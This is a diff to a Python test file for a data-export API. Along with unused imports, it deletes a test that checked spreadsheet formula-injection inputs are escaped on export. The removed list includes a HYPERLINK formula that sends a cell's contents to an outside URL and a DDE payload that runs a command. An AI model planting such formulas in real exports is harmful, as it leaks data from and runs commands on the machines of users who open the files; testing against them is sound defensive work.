@@ -7,7 +7,6 @@ import json
 import tracemalloc
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
-from dataclasses import replace
 from itertools import pairwise
 from typing import Any
 
@@ -23,7 +22,7 @@ from app.api.exports import PAGE
 from app.api.negotiation import MEDIA_TYPES
 from app.storage.knowledge import reconcile
 from tests.conftest import NOW
-from tests.knowledge_samples import at, claim, document, ferry, many
+from tests.knowledge_samples import many
 
 Json = dict[str, Any]
 
@@ -251,34 +250,6 @@ def test_head_tells_the_same_and_reads_one_page(
     assert (head.status_code, head.content) == (200, b"")
     for name in ("content-type", "content-disposition", "cache-control", "vary"):
         assert head.headers[name] == got.headers[name]
-
-
-HARMFUL = [
-    '=HYPERLINK("http://a.org?"&A1)',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\uff1d1",
-    '  =cmd|" /C calc"!A0',
-]
-
-
-def test_a_spreadsheet_finds_no_formula(ferry_session: Session, client: TestClient) -> None:
-    text = "".join(f"{line}\n" for line in HARMFUL)
-    claims = tuple(
-        replace(
-            claim(f"evil-{n}", n, ("ines-duarte",), at(line.strip(), text=text), text=text),
-            method=line,
-        )
-        for n, line in enumerate(HARMFUL)
-    )
-    evil = replace(ferry(), document=document("evil", text), claims=claims)
-    evil = replace(evil, relations=(), mentions=(), passages=())
-    reconcile(ferry_session, evil, "1", NOW)
-    rows = table(client, "/v1/claims/export?document=evil&sort=document")
-    assert [row["text"] for row in rows] == [f"'{line.strip()}" for line in HARMFUL]
-    assert [row["method"] for row in rows] == [f"'{line}" for line in HARMFUL]
-    assert all(float(row["confidence"]) == 0.8 for row in rows)
 
 
 def test_a_table_holds_any_text(ferry_session: Session, client: TestClient) -> None:
